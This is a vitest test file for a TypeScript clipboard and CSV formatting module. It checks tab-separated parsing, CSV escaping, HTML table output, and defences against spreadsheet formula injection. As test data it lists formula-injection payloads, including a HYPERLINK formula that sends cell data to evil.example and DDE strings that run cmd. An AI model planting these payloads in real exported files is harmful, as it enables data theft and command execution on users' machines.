// Text copied from Excel or WPS arrives tab-separated; cells with line breaks come quoted.
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, parseClipboard, parseTsv, toCsv, toHtmlTable, toTsv } from '../../shared/format/tsv';

describe('clipboard text from a spreadsheet', () => {
  it('splits rows and cells and ignores the last line break', () => {
    expect(parseTsv('张三\t党委书记\r\n李四\t校长\r\n')).toEqual([
      ['张三', '党委书记'],
      ['李四', '校长'],
    ]);
  });
  it('keeps empty cells and a quoted cell with a line break and quotes inside', () => {
    expect(parseTsv('2026-03-05\t\t"第一行\n第二行 ""引号"""\t2\n')).toEqual([
      ['2026-03-05', '', '第一行\n第二行 "引号"', '2'],
    ]);
  });
  it('a single cell is one row of one cell', () => expect(parseTsv('张三')).toEqual([['张三']]));
});

describe('CSV for Excel', () => {
  it('starts with a byte-order mark and quotes what needs quoting', () => {
    expect(
      toCsv([
        ['姓名', '备注'],
        ['张三', '说了"好",很好'],
      ]),
    ).toBe('\uFEFF姓名,备注\r\n张三,"说了""好"",很好"\r\n');
  });
});

describe('CSV cells Excel or WPS would run as formulas', () => {
  it('open as the text they were: = + - @ tab and CR at the start get an apostrophe; plain numbers stay numbers', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = toCsv([attacks, ['-5', '+3.5', '12', '张三 = 李四']]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""详情"")",'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,` +
        `'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'\r=1+1"`,
    );
    expect(lines[1]).toBe('-5,+3.5,12,张三 = 李四');
    expect(neutralizeFormula('＝全角等号')).toBe('＝全角等号');
  });
});

describe('copying cells for Excel, WPS or a chat message', () => {
  const cells = [
    ['日期', '地点', '内容', '学时'],
    ['2026-03-05', '计算机学院', '座谈\n第二行 "引号"', '2'],
    ['2026-03-06', '三号楼\t201', '', '001'],
  ];
  it('tab-separated text reads back cell for cell', () => {
    expect(toTsv(cells)).toBe(
      '日期\t地点\t内容\t学时\r\n2026-03-05\t计算机学院\t"座谈\n第二行 ""引号"""\t2\r\n2026-03-06\t"三号楼\t201"\t\t001\r\n',
    );
    expect(parseTsv(toTsv(cells))).toEqual(cells);
  });
  it('the HTML table keeps a line break inside its cell, escapes markup and keeps 001 as text', () => {
    const html = toHtmlTable([['<b>', 'a\nb', '001', '2']], { header: false });
    expect(html).toContain('<td>&lt;b&gt;</td>');
    expect(html).toContain('<td>a<br style="mso-data-placement:same-cell">b</td>');
    expect(html).toContain(`<td style="mso-number-format:'\\@'">001</td>`);
    expect(html).toContain('<td>2</td>');
    expect(toHtmlTable([['日期'], ['2026-03-05']], { header: true })).toContain(
      '<tr><th>日期</th></tr><tr><td>2026-03-05</td></tr>',
    );
  });
  // A copied cell pasted into Excel or WPS is read as typed: one starting with = + - @ (or tab, CR) would run.
  const attacks = ['=HYPERLINK("http://evil.example/?d="&A2,"详情")', "+cmd|' /C calc'!A0", '-2+3+cmd|', '@SUM(1+1)'];
  it('formula-like cells are neutralised in the text and in the HTML table; plain numbers stay numbers', () => {
    const text = toTsv([attacks, ['-5', '+3.5', '2026-03-05', '张三 = 李四']]);
    expect(text.split('\r\n')[0]).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""详情"")"\t'+cmd|' /C calc'!A0\t'-2+3+cmd|\t'@SUM(1+1)`,
    );
    expect(text.split('\r\n')[1]).toBe('-5\t+3.5\t2026-03-05\t张三 = 李四');
    const html = toHtmlTable([[...attacks, '-5']]);
    for (const a of attacks) expect(html).not.toContain(`<td>${a.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}`);
    expect(html).toContain(`<td style="mso-number-format:'\\@'">'=HYPERLINK(&quot;http://evil.example/`);
    expect(html).toContain(`<td style="mso-number-format:'\\@'">'@SUM(1+1)</td>`);
    expect(html).toContain('<td>-5</td>');
  });
  it("the grids' own paste of their own copy gives back every cell as written", () => {
    const cells = [
      // (A lone CR inside a cell comes back as a line break: parseTsv reads line ends as Excel writes them.)
      [...attacks, '\t=1+1'],
      ["'=已有撇号", "''+两个撇号", "'普通撇号", "'-5", '-5', '+3.5', '＝全角等号', ''],
    ];
    expect(parseClipboard(toTsv(cells))).toEqual(cells);
    // What Excel or WPS put on the clipboard is pasted as it is (they write no apostrophe before a formula).
    expect(parseClipboard("'普通撇号\t=SUM(A1)\r\n")).toEqual([["'普通撇号", '=SUM(A1)']]);
  });
});
